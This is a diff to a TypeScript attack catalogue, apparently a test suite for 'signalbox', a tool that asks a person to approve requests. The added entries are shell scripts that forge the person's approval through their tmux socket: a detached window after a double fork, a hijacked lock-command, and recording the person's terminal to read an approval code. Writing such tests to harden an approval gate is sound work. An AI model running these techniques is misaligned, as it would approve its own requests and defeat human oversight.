@@ -8,6 +8,11 @@ import type { Attack } from './attack.js'
 const APPROVE = '$SIGNALBOX approve $APPROVAL --fingerprint $FINGERPRINT'
 /** As a person's shell: nothing of the session is left in the environment. */
 const CLEAN = 'env -i PATH="$PATH" HOME="$PERSON" SIGNALBOX_HOME="$SB_HOME"'
+/** The same inside of quotes. */
+const CLEAN_INSIDE = 'env -i PATH=$PATH HOME=$PERSON SIGNALBOX_HOME=$SB_HOME'
+const CODE = 'python3 code.py $SOCKET $APPROVAL $FINGERPRINT $DISPLAY_HASH $OPTION $TMUX_SOCKET $TMUX_TTY'
+const waitFor = (name: string) =>
+  `n=0; while [ ! -e ${name}.end ] && [ $n -lt 200 ]; do sleep 0.1; n=$((n+1)); done; cat ${name}.end; rm -f ${name}.end`
 const BODY = `'{"option":"'"$OPTION"'","fingerprint":"'$FINGERPRINT'","seen":{"displayHash":"'$DISPLAY_HASH'","whole":true}}'`
 const JSON_TYPE = `-H 'content-type: application/json'`
 const ON_SOCKET = 'curl -s -m 10 --unix-socket "$SOCKET" http://signalbox/api/v1'
@@ -61,6 +66,34 @@ const decide: Attack[] = [
     goal: 'decide',
     needs: 'tmux',
     script: `tmux -S "$TMUX_SOCKET" send-keys -t 0 "${CLEAN} ${APPROVE} > $PWD/keys.out 2>&1; mv $PWD/keys.out $PWD/keys.end" Enter; n=0; while [ ! -e keys.end ] && [ $n -lt 200 ]; do sleep 0.1; n=$((n+1)); done; cat keys.end; rm -f keys.end`,
+  },
+  {
+    id: 'approve-tmux-orphan',
+    title: 'the same in a new window of the person’s tmux server, after a double fork',
+    goal: 'decide',
+    needs: 'tmux',
+    script: `tmux -S "$TMUX_SOCKET" new-window -d "setsid -f sh -c 'sleep 0.3; ${CLEAN_INSIDE} ${APPROVE} > $PWD/late.out 2>&1; mv $PWD/late.out $PWD/late.end'"; ${waitFor('late')}`,
+  },
+  {
+    id: 'approve-tmux-client',
+    title: 'the same below the person’s own tmux client (lock-command)',
+    goal: 'decide',
+    needs: 'tmux',
+    script: `tmux -S "$TMUX_SOCKET" set -g lock-command "${CLEAN_INSIDE} ${APPROVE} > $PWD/lock.out 2>&1; mv $PWD/lock.out $PWD/lock.end"; tmux -S "$TMUX_SOCKET" lock-client -t "$TMUX_TTY"; ${waitFor('lock')}`,
+  },
+  {
+    id: 'code-tmux',
+    title: 'ask for a code in the person’s tmux, and read it from their panes and terminal',
+    goal: 'decide',
+    needs: 'tmux',
+    script: `tmux -S "$TMUX_SOCKET" new-window -d "cd $PWD; env -i PATH=$PATH ${CODE} > code.out 2>&1; mv code.out code.end"; ${waitFor('code')}`,
+  },
+  {
+    id: 'code-tmux-client',
+    title: 'the same with a tmux client in a terminal that it records, below the person’s client',
+    goal: 'decide',
+    needs: 'tmux',
+    script: `tmux -S "$TMUX_SOCKET" set -g lock-command "timeout 8 script -qfc 'env -u TMUX tmux -S $TMUX_SOCKET attach' $PWD/typescript"; tmux -S "$TMUX_SOCKET" lock-client -t "$TMUX_TTY"; tmux -S "$TMUX_SOCKET" new-window -d "cd $PWD; sleep 1; env -i PATH=$PATH ${CODE} typescript > code.out 2>&1; mv code.out code.end"; ${waitFor('code')}`,
   },
   {
     id: 'limit-raise',
